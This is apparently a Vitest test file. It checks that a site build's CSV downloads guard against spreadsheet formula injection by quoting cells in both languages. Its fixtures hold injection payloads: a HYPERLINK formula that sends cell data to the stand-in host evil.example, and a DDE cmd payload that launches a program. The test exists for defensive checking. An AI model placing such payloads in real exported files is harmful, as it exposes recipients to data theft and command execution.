import { execFile } from 'node:child_process'
import { mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises'
import { createRequire } from 'node:module'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { promisify } from 'node:util'
import type { Dataset } from '@mfa-residency/dataset'
import { parse } from 'csv-parse/sync'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'

const require = createRequire(import.meta.url)
const buildSite = path.resolve(import.meta.dirname, '../lib/build-site.js')

// Cells a spreadsheet would evaluate: data sent away, a program run through DDE, arithmetic.
const formulas = [
  '=HYPERLINK("https://evil.example/?"&A1,"click")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
]
const startsFormula = /^[=+\-@\t\r]/

describe('downloads/*.csv from a dataset whose cells hold formulas', () => {
  let folder: string
  let table: Dataset['tables'][number]
  let csv: string
  beforeAll(async () => {
    folder = await mkdtemp(path.join(tmpdir(), 'mfa-residency-site-csv-'))
    const dataset = structuredClone(require('@mfa-residency/dataset/dataset.json')) as Dataset
    table = dataset.tables[0]!
    const cell = table.rows[0]!.cells[table.columns[0]!.id]!
    cell.en = [...formulas]
    cell.sv = [...formulas]
    const file = path.join(folder, 'hostile.json')
    await writeFile(file, JSON.stringify(dataset))
    // The real build, as `pnpm build` runs it, into a folder of its own.
    await promisify(execFile)(process.execPath, [
      buildSite,
      '--dataset',
      file,
      '--out',
      path.join(folder, 'site'),
    ])
    csv = await readFile(path.join(folder, 'site/downloads', `${table.id}.csv`), 'utf8')
  })
  afterAll(() => rm(folder, { recursive: true, force: true }))

  test('every formula cell starts with a single quote, in both languages', () => {
    const records = parse(csv, { columns: true }) as Record<string, string>[]
    const cells = records.filter(
      (record) => record.row === table.rows[0]!.id && record.column === table.columns[0]!.id,
    )
    expect(cells.map((record) => record.en)).toEqual(formulas.map((formula) => `'${formula}`))
    expect(cells.map((record) => record.sv)).toEqual(formulas.map((formula) => `'${formula}`))
  })

  test('the exact bytes: RFC 4180 quoting after the quote, a CRLF after every record', () => {
    expect(csv).toContain(
      `,0,"'=HYPERLINK(""https://evil.example/?""&A1,""click"")","'=HYPERLINK(""https://evil.example/?""&A1,""click"")",`,
    )
    expect(csv).toContain(",1,'+cmd|' /C calc'!A0,'+cmd|' /C calc'!A0,")
    expect(csv).toContain(",2,'-2+3,'-2+3,")
    expect(csv).toContain(`,5,"'\r=1+1","'\r=1+1",`)
    expect(csv.endsWith('\r\n')).toBe(true)
  })

  test('no field of any download starts a formula', async () => {
    const downloads = path.join(folder, 'site/downloads')
    const files = (await readdir(downloads)).filter((name) => name.endsWith('.csv'))
    expect(files).toHaveLength(5)
    for (const name of files) {
      const rows = parse(await readFile(path.join(downloads, name), 'utf8')) as string[][]
      for (const field of rows.flat()) expect(field).not.toMatch(startsFormula)
    }
  })
})
